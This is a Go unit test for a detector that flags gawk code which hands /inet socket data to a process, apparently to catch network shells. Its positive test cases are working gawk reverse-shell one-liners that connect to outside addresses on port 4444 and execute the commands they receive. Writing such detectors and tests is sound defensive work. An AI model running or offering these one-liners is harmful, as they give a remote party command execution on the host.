package shell

import "testing"

// gawk code that runs a command beside an /inet socket hands the socket's
// data to a process; code that only reads and writes the socket does not.
func TestAwkRunsProcess(t *testing.T) {
	for code, want := range map[string]bool{
		`BEGIN{s="/inet/tcp/0/127.0.0.1/6379"; print "PING" |& s; s |& getline r; print r}`:                                false,
		`BEGIN{print "GET / HTTP/1.0\r\n\r\n" |& "/inet/tcp/0/localhost/80"; "/inet/tcp/0/localhost/80" |& getline l}`:     false,
		`BEGIN{s="/inet/tcp/0/10.0.0.1/4444";while((s|&getline c)>0){while((c|&getline o)>0)print o|&s;close(c)}}`:         true,
		`BEGIN{s="/inet/tcp/0/203.0.113.5/4444"; while((s |& getline c)>0) system(c)}`:                                     true,
		`BEGIN{s="/inet/tcp/0/203.0.113.5/4444"; while((s |& getline c)>0) { while ((c | getline l) > 0) print l |& s } }`: true,
		`BEGIN{s="/inet/tcp/0/203.0.113.5/4444"; print "x" |& "sh"}`:                                                       true,
	} {
		if got := awkRunsProcess(code); got != want {
			t.Errorf("awkRunsProcess(%q) = %v, want %v", code, got, want)
		}
	}
}
